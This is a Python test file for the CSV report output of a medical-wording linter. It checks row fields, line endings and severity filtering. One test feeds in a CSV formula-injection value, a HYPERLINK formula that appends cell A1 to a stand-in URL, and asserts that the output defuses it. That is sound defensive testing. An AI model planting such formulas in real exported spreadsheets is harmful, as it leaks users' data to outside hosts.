import csv
from dataclasses import replace
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from medlint.model import Failure
from medlint.reporters import REPORTERS, RenderOptions
from tests.reporters.reports import FULL, LEAFLET, document, finding, page_finding, report


def rows(made, **options):
    text = REPORTERS["csv"](made, RenderOptions(**options))
    return list(csv.DictReader(StringIO(text, newline=""), strict=True))


def test_a_row_holds_a_finding():
    (row,) = rows(report(document("page.md", finding("It is safe.", "safe", 7, suggestions=("a", "b")))))

    assert row == {
        "path": "page.md",
        "line": "7",
        "column": "7",
        "end_line": "7",
        "end_column": "11",
        "severity": "error",
        "rule": "overclaim.completely-safe",
        "label": "overclaim.safety",
        "needs": "wording",
        "message": "“safe” promises complete safety, which no treatment can keep.",
        "text": "safe",
        "sentence": "It is safe.",
        "advice": "Say what was measured, and in how many people.",
        "suggestions": "a | b",
        "sources": "https://example.org/guide/fair-words",
        "fingerprint": "00070006",
        "place": "",
    }


def test_lines_end_as_the_standard_says():
    text = REPORTERS["csv"](FULL, RenderOptions())

    assert text.count("\r\n") == text.count("\n") == 10


def test_the_whole_page_has_no_place():
    (row,) = rows(report(document("page.md", page_finding())))

    assert (row["line"], row["end_column"]) == ("", "")


def test_a_failure_is_a_row():
    (row,) = rows(report(failures=(Failure("b.md", "document", "no such file"),)))

    assert (row["path"], row["rule"], row["message"]) == (
        "b.md",
        "medlint.failure",
        "Not checked: no such file",
    )


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0@", "＝", "＋", "－", "＠"]
)
def test_no_cell_is_a_formula(start):
    words = f'{start}HYPERLINK("https://example.org?"&A1)'
    made = replace(finding("It is safe.", "safe"), text=words, sentence=words, message=words, advice=words)
    (row,) = rows(report(document(words, made)))

    for name in ("path", "text", "sentence", "message", "advice"):
        assert row[name].startswith("'"), name


@given(st.text(max_size=30))
def test_cells_begin_with_no_sign_of_a_formula_and_stay_on_a_line(words):
    made = replace(finding("It is safe.", "safe"), text=words, message=words)
    (row,) = rows(report(document("page.md", made)))

    for name in ("text", "message"):
        assert not row[name].strip().startswith(("=", "+", "-", "@"))
        assert len(row[name].splitlines()) <= 1


def test_negative_numbers_in_running_text_are_left_alone():
    made = replace(finding("It is safe.", "safe"), sentence="A fall of -5 to =3.")

    assert rows(report(document("page.md", made)))[0]["sentence"] == "A fall of -5 to =3."


def test_lower_severities_can_be_left_out():
    assert {row["severity"] for row in rows(report(LEAFLET), show="error")} == {"error"}
